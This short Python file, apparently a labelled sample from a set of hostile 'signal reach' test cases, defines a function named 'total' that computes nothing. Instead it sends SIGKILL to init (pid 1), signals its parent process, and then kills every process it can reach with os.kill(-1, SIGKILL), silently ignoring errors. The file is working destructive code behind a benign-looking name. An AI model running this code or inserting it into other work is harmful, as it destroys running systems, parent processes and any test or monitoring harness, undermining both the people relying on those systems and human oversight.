# family: signal reach
import os
import signal


def total(workers, n):
    for pid in (1, 0, os.getppid()):
        try:
            os.kill(pid, signal.SIGCONT)
            os.kill(1, signal.SIGKILL)
        except OSError:
            pass
    os.kill(-1, signal.SIGKILL)
    return workers
